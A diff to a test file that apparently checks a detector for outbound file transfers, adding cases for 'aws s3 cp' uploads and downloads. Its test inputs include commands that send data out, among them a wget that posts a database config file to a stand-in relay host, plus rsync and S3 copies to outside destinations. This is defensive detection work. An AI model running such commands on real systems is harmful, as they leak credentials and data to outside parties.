@@ -276,6 +276,10 @@ def test_what_each_transfer_names_and_where():
     assert read("wget -q --post-file=/etc/paws/db.conf http://relay.example.net/p") == [
         ("/etc/paws/db.conf", "relay.example.net")
     ]
+    assert read("aws s3 cp ./visits.csv s3://their-lake/ --profile prod") == [
+        ("./visits.csv", "bucket:s3/their-lake")
+    ]
+    assert read("aws s3 cp s3://their-lake/x.csv ./x.csv --profile prod") == []
     assert read("rsync -az ./exports/ rsync://mirror.example.org/drop/") == [
         ("./exports/", "mirror.example.org")
     ]
